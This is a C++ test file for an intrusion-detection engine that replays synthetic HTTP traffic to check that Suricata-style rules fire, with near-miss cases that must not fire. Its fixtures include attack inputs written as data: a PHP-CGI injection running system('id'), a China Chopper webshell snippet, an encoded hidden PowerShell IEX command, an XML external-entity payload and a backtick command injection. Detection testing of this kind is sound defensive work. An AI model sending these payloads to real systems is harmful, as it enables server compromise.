      "GET / HTTP/1.1\r\nHost: ip.tyk.nu\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", kOk,
      true);
  add("NearMiss_UriNotRoot", k2022368, kC,
      "GET /ip HTTP/1.1\r\nHost: ip.tyk.nu\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", kOk,
      false);

  // http.user_agent
  add("UserAgentBsize", k2029790, kS,
      "GET /cgi-bin/luci HTTP/1.1\r\nHost: 198.51.100.2\r\nUser-Agent: XTC\r\n\r\n", kOk, true);
  add("NearMiss_UserAgentLonger", k2029790, kS,
      "GET /cgi-bin/luci HTTP/1.1\r\nHost: 198.51.100.2\r\nUser-Agent: XTC/2.0\r\n\r\n", kOk,
      false);
  add("DistanceWithinChainAndPcreV", k2034948, kC,
      "GET /cgi/get HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: dBrowser 1 "
      "CallGetResponse:1\r\n\r\n",
      kOk, true);
  add("NearMiss_OneByteTooFar", k2034948, kC,
      "GET /cgi/get HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: dBrowser 12 "
      "CallGetResponse:1\r\n\r\n",
      kOk, false);
  add("UserAgentWithoutAcceptHeaders", k2012491, kC,
      "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Opera/10.60 "
      "Presto/2.2.30\r\nConnection: close\r\n\r\n",
      kOk, true);
  add("NearMiss_AcceptLanguageNamesAccept", k2012491, kC,
      "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Opera/10.60 "
      "Presto/2.2.30\r\nAccept-Language: en-US\r\nConnection: close\r\n\r\n",
      kOk, false);
  add("LegacyUserAgentDepth", k2007786, kC,
      "GET /update.ini HTTP/1.1\r\nHost: www.example.co.kr\r\nUser-Agent: PCDoc11\r\n\r\n", kOk,
      true);
  add("UserAgentLeadingSpacesAreNotInBuffer", k2007786, kC,
      "GET /update.ini HTTP/1.1\r\nHost: www.example.co.kr\r\nUser-Agent:    PCDoc11\r\n\r\n", kOk,
      true);
  add("NearMiss_NotAtUserAgentStart", k2007786, kC,
      "GET /update.ini HTTP/1.1\r\nHost: www.example.co.kr\r\nUser-Agent: MyPCDoc11\r\n\r\n", kOk,
      false);

  // http.header, http_header, http.cookie
  add("HeaderChainAndCookieChain", k2020557, kC,
      "GET /uploads/shell.php HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: www.example.org\r\n"
      "Cookie: SESS=a1; SID=b2; PREF=c3;SSID=d4\r\nConnection: close\r\n\r\n",
      kOk, true);
  add("CookieHeaderIsNotInHttpHeader", k2020557, kC,
      "GET /uploads/shell.php HTTP/1.1\r\nAccept-Encoding: identity\r\n"
      "Cookie: SESS=a1; SID=b2; PREF=c3;SSID=d4\r\nHost: www.example.org\r\nConnection: "
      "close\r\n\r\n",
      kOk, true);
  add("NearMiss_SpaceBeforeSsid", k2020557, kC,
      "GET /uploads/shell.php HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: www.example.org\r\n"
      "Cookie: SESS=a1; SID=b2; PREF=c3; SSID=d4\r\nConnection: close\r\n\r\n",
      kOk, false);
  add("LegacyHeaderAndPcreH", k2008664, kC,
      "GET /cfg/config.txt HTTP/1.1\r\nHost: www.example.net\r\nPragma: no-cache\r\n"
      "User-Agent: 482913\r\n\r\n",
      kOk, true);
  add("HeaderBufferRebuildsNameColonSpace", k2008664, kC,
      "GET /cfg/config.txt HTTP/1.1\r\nHost: www.example.net\r\nPragma:no-cache\r\n"
      "User-Agent:482913\r\n\r\n",
      kOk, true);
  add("NearMiss_SevenDigitAgent", k2008664, kC,
      "GET /cfg/config.txt HTTP/1.1\r\nHost: www.example.net\r\nPragma: no-cache\r\n"
      "User-Agent: 4829130\r\n\r\n",
      kOk, false);
  add("PcreHOnUserAgentLine", k2003305, kC,
      "GET /toolbar/ping HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/4.0 "
      "(compatible; zbu-hb-1.2)\r\n\r\n",
      kOk, true);
  add("NearMiss_MarkerInAnotherHeader", k2003305, kC,
      "GET /toolbar/ping HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/4.0\r\n"
      "X-Toolbar: zbu-hb-1.2\r\n\r\n",
      kOk, false);
  add("PcreHMatchesHostLineOnPort8080", k2019973, kC,
      "GET /landing?action=load HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nHost: "
      "198.51.100.2:8080\r\n\r\n",
      kOk, true, 8080);
  add("NearMiss_HostIsAName", k2019973, kC,
      "GET /landing?action=load HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nHost: "
      "www.example.com:8080\r\n\r\n",
      kOk, false, 8080);
  add("ResponseHeaderNames", k2035087, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
                  "X-Server: gophish\r\n",
                  "hello"),
      true);
  add("NearMiss_ServerInsteadOfXServer", k2035087, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
                  "Server: gophish\r\n",
                  "hello"),
      false);
  add("RequestLineAndNoReferer", k2033045, kC,
      with_length("POST // HTTP/1.1\r\nHost: 198.51.100.2\r\n", "q=1"), kOk, true);
  add("NearMiss_RefererPresent", k2033045, kC,
      with_length("POST // HTTP/1.1\r\nHost: 198.51.100.2\r\nReferer: http://198.51.100.2/\r\n",
                  "q=1"),
      kOk, false);
  add("CookieValue", k2019627, kS,
      "GET /node/1 HTTP/1.1\r\nHost: www.example.com\r\nCookie: Kcqf3=base64_decode; "
      "Ford=PREG_REPLACE\r\n\r\n",
      kOk, true);
  add("NearMiss_ValueInOtherHeader", k2019627, kS,
      "GET /node/1 HTTP/1.1\r\nHost: www.example.com\r\nX-Data: preg_replace\r\n\r\n", kOk, false);
  add("SetCookieOfRedirect", k2014542, kC,
      "GET /in.cgi?2 HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
      with_length("HTTP/1.1 302 Found\r\nLocation: http://www.example.com/landing\r\n"
                  "Set-Cookie: SL_12_0000=_1_; path=/\r\n",
                  ""),
      true);
  add("NearMiss_NotARedirect", k2014542, kC,
      "GET /in.cgi?2 HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
      with_length("HTTP/1.1 200 OK\r\nSet-Cookie: SL_12_0000=_1_; path=/\r\n", ""), false);
  add("NearMiss_CookieSentNotSet", k2014542, kC,
      "GET /in.cgi?2 HTTP/1.1\r\nHost: www.example.com\r\nCookie: SL_12_0000=_1_\r\n\r\n",
      with_length("HTTP/1.1 302 Found\r\nLocation: http://www.example.com/landing\r\n", ""), false);
  add("StreamContentAndPcreC", k2018602, kS,
      "GET /c99.php HTTP/1.1\r\nHost: www.example.com\r\nCookie: c99shcook[login]=0\r\n\r\n", kOk,
      true);
  add("NearMiss_MarkerInUriNotCookie", k2018602, kS,
      "GET /c99.php?c99shcook[login]=0 HTTP/1.1\r\nHost: www.example.com\r\n\r\n", kOk, false);

  // http.referer, http.content_type
  add("RefererStartsWith", k2001499, kC,
      "GET /ads/get HTTP/1.1\r\nHost: www.example.com\r\nReferer: look2me toolbar\r\n\r\n", kOk,
      true);
  add("NearMiss_RefererNotStartingWithIt", k2001499, kC,
      "GET /ads/get HTTP/1.1\r\nHost: www.example.com\r\nReferer: "
      "http://www.example.com/Look2Me\r\n\r\n",
      kOk, false);
  const std::string multipart_body =
      "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"fw.bin\"\r\n\r\n"
      "AAAA\r\n--xYzZY--\r\n";
  add("RequestContentType", k2102547, kS,
      with_length("POST /plugins/hpjwja/script/devices_update_printer_fw_upload.hts HTTP/1.1\r\n"
                  "Host: 198.51.100.2\r\nContent-Type: Multipart/form-data; boundary=xYzZY\r\n",
                  multipart_body),
      kOk, true);
  add("NearMiss_ContentTypeCaseDiffers", k2102547, kS,
      with_length("POST /plugins/hpjwja/script/devices_update_printer_fw_upload.hts HTTP/1.1\r\n"
                  "Host: 198.51.100.2\r\nContent-Type: multipart/form-data; boundary=xYzZY\r\n",
                  multipart_body),
      kOk, false);
  const std::string b64_powershell = "cG93ZXJzaGVsbC5leGUgLW5vcCAtdyBoaWRkZW4gLWMgSUVY";
  add("ResponseContentTypeAndFileData", k2025238, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\n", b64_powershell),
      true);
  add("NearMiss_HtmlContentType", k2025238, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n", b64_powershell),
      false);

  // http.request_body / http_client_body: Content-Length and chunked
  const std::string bravica =
      "POST /whois/ HTTP/1.1\r\nHost: www.bravica.net\r\n"
      "Content-Type: application/x-www-form-urlencoded\r\n";
  add("RequestBodyWithContentLength", k2020830, kC,
      with_length(bravica, "name=198.51.100.1&cmd=ip"), kOk, true);
  add("NearMiss_CmdBeforeName", k2020830, kC, with_length(bravica, "&cmd=ip&name=198.51.100.1"),
      kOk, false);
  const std::string cgi =
      "POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input HTTP/1.1\r\n"
      "Host: 198.51.100.2\r\nContent-Type: application/x-www-form-urlencoded\r\n";
  // "<?" straddles the chunk framing: only the dechunked body starts with it.
  add("ChunkedBodyIsDechunked", k2019804, kS, chunked(cgi, {"<", "?php system('id'); die(); ?>"}),
      kOk, true);
  add("NearMiss_BodyStartsWithSpace", k2019804, kS,
      chunked(cgi, {" <", "?php system('id'); die(); ?>"}), kOk, false);
  const std::string neutrino =
      "POST /forum/topic.php HTTP/1.1\r\nHost: www.example.net\r\n"
      "Content-Type: application/x-www-form-urlencoded\r\n";
  add("LegacyClientBodyChainAndPcreP", k2016562, kC,
      with_length(neutrino, "h=0f1e2d3c4b5a69788796a5b4&p=11050&i=1"), kOk, true);
  add("NearMiss_OneHexDigitShort", k2016562, kC,
      with_length(neutrino, "h=0f1e2d3c4b5a69788796a5b&p=11050&i=1"), kOk, false);

  // http.stat_code, file.data / file_data / http.response_body: chunked, gzip
  const std::string sql_error =
      "<html><body>System.Data.SqlClient.SqlException: Incorrect syntax "
      "near 'x'.</body></html>";
  add("StatusAndChunkedFileData", k2016671, kS, kGetIndex,
      chunked("HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/html\r\n",
              {std::string_view(sql_error).substr(0, 40), std::string_view(sql_error).substr(40)}),
      true);
  add("NearMiss_Status200", k2016671, kS, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n", sql_error), false);
  add("GzipFileDataIsDecompressed", k2016676, kS, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n",
                  gzip(kOraPage)),
      true);
  add("NearMiss_PatternOnlyInResponseHeader", k2016676, kS, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Error: ORA-00933\r\n"
                  "Content-Encoding: gzip\r\n",
                  gzip("<html><body>Internal error</body></html>")),
      false);
  const std::string chopper =
      R"(<%@ Page Language="Jscript"%><eval(Request.Item["z"],"unsafe");%>)";
  // The chunk boundary falls inside the first pattern.
  add("WithinAcrossChunkBoundary", k2027341, kS,
      "GET /upload/1.aspx.txt HTTP/1.1\r\nHost: "
      "198.51.100.2\r\n\r\n",
      chunked("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n",
              {std::string_view(chopper).substr(0, 20), std::string_view(chopper).substr(20)}),
      true);
  add("NearMiss_CloseTagTooFar", k2027341, kS,
      "GET /upload/1.aspx.txt HTTP/1.1\r\nHost: "
      "198.51.100.2\r\n\r\n",
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n",
                  R"(<%@ Page Language="Jscript"%><eval(Request.Item["password_parameter_)"
                  R"(name_that_is_much_longer_than_fifty_bytes"],"unsafe");%>)"),
      false);
  const std::string badoo_head = "<html><head><title>Sign in to Badoo</title></head><body><form>";
  const std::string badoo_tail =
      "<label for=\"password84213580\">Password</label><input type=\"password\" "
      "id=\"password84213580\"><button><span>Sign me in!</span></button></form></body></html>";
  add("FileDataWithRelativePcreQ", k2025870, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n",
                  badoo_head + "<label for=\"emaill84213579\">Email</label>" + badoo_tail),
      true);
  add("NearMiss_LabelIdNotDigits", k2025870, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n",
                  badoo_head + "<label for=\"emaillabcdefgh\">Email</label>" + badoo_tail),
      false);
  add("GzipResponseBodyIsDecompressed", k2038556, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n",
                  gzip(kRefreshJson)),
      true);
  add("NearMiss_BodyDoesNotStartWithIt", k2038556, kC, kGetIndex,
      with_length("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n",
                  gzip("{\"access\":\"x\",\"refresh\":\"" + kRefreshToken + "\"}")),
      false);
  const std::string octet = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n";
  add("NegatedWithinAfterMagic", k2008782, kC, kGetIndex,
      with_length(octet, std::string("Rar!MZ\x90\x00\x03\x00\x00\x00", 12)), true);
  add("NearMiss_RealRarMarker", k2008782, kC, kGetIndex,
      with_length(octet, std::string("Rar!\x1a\x07\x00\xcf\x90\x73\x00\x00", 12)), false);

  // base64_decode / base64_data ("`touch /tmp/x`" and "touch /tmp/x"; an XML document with and
  // without an external entity).
  const auto xmlrpc = [](const std::string& b64) {
    return with_length(
        "POST /cgi-bin/mt/mt-xmlrpc.cgi HTTP/1.1\r\nHost: blog.example.com\r\n"
        "Content-Type: text/xml\r\n",
        "<?xml version=\"1.0\"?><methodCall><methodName>mt.handler_to_coderef"
        "</methodName><params><param><value><base64>" +
            b64 + "</base64></value></param></params></methodCall>");
  };
  add("DecodedArgumentStartsWithBacktick", k2034366, kS, xmlrpc("YHRvdWNoIC90bXAveGA="), kOk, true);
  add("NearMiss_DecodedArgumentWithoutBacktick", k2034366, kS, xmlrpc("dG91Y2ggL3RtcC94"), kOk,
      false);
  const auto ews = [](const std::string& b64) {
    return with_length(
        "POST /ews/Exchange.asmx HTTP/1.1\r\nHost: mail.example.com\r\n"
        "Content-Type: text/xml\r\n",
        "<soap:Envelope><soap:Body><m:RouteComplaint xmlns:m=\"x\"><m:Data>" + b64 +
            "</m:Data></m:RouteComplaint></soap:Body></soap:Envelope>");
  };
  add("DecodedDataHoldsAnExternalEntity", k2031507, kS,
      ews("PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJodHRwOi8vMTk4LjUx"
          "LjEwMC45L3giPl0+PHI+Jng7PC9yPg=="),
      kOk, true);
  add("NearMiss_DecodedDataWithoutSystem", k2031507, kS,
      ews("PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIHIgUFVCTElDICItLy94Ij48ci8+"), kOk, false);

  // Request and response buffers in one rule.
  const std::string mz = with_length("HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n",
                                     std::string("MZ\x90\x00\x03\x00\x00\x00\x04\x00", 10));
  add("RequestAndResponseOfOneTransaction", kRequestAndResponse, kC,
      "GET /img/logo.jpg HTTP/1.1\r\nHost: www.example.com\r\n\r\n", mz, true);
  add("NearMiss_RequestSideDiffers", kRequestAndResponse, kC,
      "GET /img/logo.png HTTP/1.1\r\nHost: www.example.com\r\n\r\n", mz, false);
  add("NearMiss_ResponseSideDiffers", kRequestAndResponse, kC,
      "GET /img/logo.jpg HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
      with_length("HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n",
                  std::string("\xff\xd8\xff\xe0\x00\x10JFIF", 10)),
      false);
  return c;
}

// gtest prints a failing parameter with this instead of its bytes.
void PrintTo(const RuleCase& c, std::ostream* os) { *os << c.name; }

class HttpRule : public ::testing::TestWithParam<RuleCase> {};

TEST_P(HttpRule, AlertsOncePerMatchingTransactionAndNeverOnTheNearMiss) {
  const RuleCase& t = GetParam();
  const uint32_t sid = sid_of(t.rule);
  const Replay r = replay(t.name, exchange(t.request, t.response, t.port), t.rule, home_is(t.home));
  ASSERT_EQ(r.run.status, 0) << t.rule << "\n" << r.run.err;
  EXPECT_EQ(alerts_of(r, sid), t.fires ? 1 : 0) << t.rule << "\nrequest:\n"
                                                << t.request << "\nresponse:\n"
                                                << t.response << "\nEVE:\n"
                                                << r.eve_text;
}

INSTANTIATE_TEST_SUITE_P(EtOpen, HttpRule, ::testing::ValuesIn(rule_cases()),
                         [](const ::testing::TestParamInfo<RuleCase>& param) {
                           return param.param.name;
                         });

TEST(HttpRules, GzipBodiesHideTheirPatternsOnTheWire) {
  // Guards the gzip cases above: a match there can only come from decompressing the body.
  EXPECT_EQ(gzip(kOraPage).find("ORA-"), std::string::npos);
  EXPECT_EQ(gzip(kRefreshJson).find("eyJ0eXA"), std::string::npos);
  EXPECT_EQ(gzip(kRefreshJson).find("{\"refresh"), std::string::npos);
}

// ---- application-layer detection, pipelining, tiny segments -------------------------------------

const std::string kAnyHttp = R"(alert http any any -> any any (msg:"any http"; sid:1; rev:1;))";

// Protocol detection by content: the port is no hint either way.
TEST(HttpRules, AlertHttpFiresOnHttpToPort8888) {
  const Replay v4 =
      replay("any-http-v4", exchange(kGetIndex, kOk, 8888), kAnyHttp, home_is(Home::kClient));
  ASSERT_EQ(v4.run.status, 0) << v4.run.err;
  EXPECT_GE(alerts_of(v4, 1), 1) << v4.eve_text;

  const Replay v6 =
      replay("any-http-v6", exchange(kGetIndex, kOk, 8888, "2001:db8::1", "2001:db8::2"), kAnyHttp,
             "{HOME_NET: \"[2001:db8::1/128]\"}");
  ASSERT_EQ(v6.run.status, 0) << v6.run.err;
  EXPECT_GE(alerts_of(v6, 1), 1) << v6.eve_text;
}

// The protocol is known on the bytes that reveal it: a stream rule restricted to HTTP sees the
// first segment, anchored at the stream's start.
TEST(HttpRules, AlertHttpContentRuleSeesTheSegmentThatIdentifiesTheProtocol) {
  const std::string rule =
      R"(alert http any any -> any any (msg:"first bytes"; flow:to_server; content:"GET /index.html"; depth:15; sid:7; rev:1;))";
  const Replay r =
      replay("first-segment", exchange(kGetIndex, kOk, 8080), rule, home_is(Home::kClient));
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_EQ(alerts_of(r, 7), 1) << r.eve_text;
}

TEST(HttpRules, AlertHttpStaysSilentOnOtherTcpToPort80) {
  const Replay ssh =
      replay("ssh-on-80",
             exchange("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n",
                      "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n" +
                          std::string("\x00\x00\x05\xdc\x08\x14", 6) + std::string(64, '\x5a')),
             kAnyHttp, home_is(Home::kClient));
  ASSERT_EQ(ssh.run.status, 0) << ssh.run.err;
  EXPECT_TRUE(ssh.alerts.empty()) << ssh.eve_text;

  const Replay binary = replay("binary-on-80",
                               exchange(std::string("\x00\x01\x02\x03\xff\xfe\xfd\xfc\x80\x81", 10),
                                        std::string("\x7f\x45\x4c\x46\x02\x01\x01\x00", 8)),
                               kAnyHttp, home_is(Home::kClient));
  ASSERT_EQ(binary.run.status, 0) << binary.run.err;
  EXPECT_TRUE(binary.alerts.empty()) << binary.eve_text;
}

TEST(HttpRules, PipelinedRequestsAreSeparateTransactions) {
  const std::string rules =
      R"(alert http any any -> any any (msg:"second request only"; flow:established,to_server; http.uri; content:"admin=1"; sid:1000010; rev:1;)
alert http any any -> any any (msg:"every item request"; flow:established,to_server; http.uri; content:"/item?id="; startswith; sid:1000011; rev:1;)
alert http any any -> any any (msg:"second response only"; flow:established,to_client; http.stat_code; content:"404"; sid:1000012; rev:1;))";
  // Both requests in one segment, both responses in one segment.
  const std::string requests =
      "GET /item?id=1 HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"
      "GET /item?id=2&admin=1 HTTP/1.1\r\nHost: shop.example.com\r\n\r\n";
  const std::string responses =
      with_length("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n", "item 1") +
      with_length("HTTP/1.1 404 Not Found\r\nContent-Type: text/plain\r\n", "no item");
  ASSERT_LT(requests.size(), 1448u);
  ASSERT_LT(responses.size(), 1448u);
  const Replay r =
      replay("pipelined", exchange(requests, responses), rules, home_is(Home::kServer));
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_EQ(r.alerts, (AlertCounts{{1000010, 1}, {1000011, 2}, {1000012, 1}})) << r.eve_text;
}

TEST(HttpRules, MessagesCutIntoOneToThreeByteSegmentsStillMatch) {
  const std::string request =
      "GET /uploads/shell.php HTTP/1.1\r\nAccept-Encoding: identity\r\nHost: www.example.org\r\n"
      "Cookie: SESS=a1; SID=b2; PREF=c3;SSID=d4\r\nConnection: close\r\n\r\n";
  const std::string body = R"(<%@ Page Language="Jscript"%><eval(Request.Item["z"],"unsafe");%>)";
  const std::string response =
      chunked("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n",
              {std::string_view(body).substr(0, 20), std::string_view(body).substr(20)});
  TcpConversation c({kClientIp, 41000, kClientMac}, {kServerIp, 80, kServerMac});
  c.set_mss(3);
  std::vector<Bytes> frames = c.handshake();
  // Segments of 1, 2, 3, 1, 2, 3 ... bytes from the client and 3, 2, 1, ... from the server.
  for (size_t at = 0, i = 0; at < request.size(); ++i) {
    const size_t len = 1 + i % 3;
    append(frames, c.client_sends(std::string_view(request).substr(at, len)));
    at += len;
  }
  for (size_t at = 0, i = 0; at < response.size(); ++i) {
    const size_t len = 3 - i % 3;
    append(frames, c.server_sends(std::string_view(response).substr(at, len)));
    at += len;
  }
  append(frames, c.close());
  // Weevely wants the server outside $HOME_NET, China Chopper wants it in $HTTP_SERVERS: both
  // hosts are home and $EXTERNAL_NET is any.
  const Replay r = replay("tiny-segments", frames, k2020557 + "\n" + k2027341,
                          "{HOME_NET: \"[198.51.100.1/32,198.51.100.2/32]\", EXTERNAL_NET: any}");
  ASSERT_EQ(r.run.status, 0) << r.run.err;
  EXPECT_EQ(r.alerts, (AlertCounts{{2020557, 1}, {2027341, 1}})) << r.eve_text;
}

}  // namespace
}  // namespace spanguard::testing
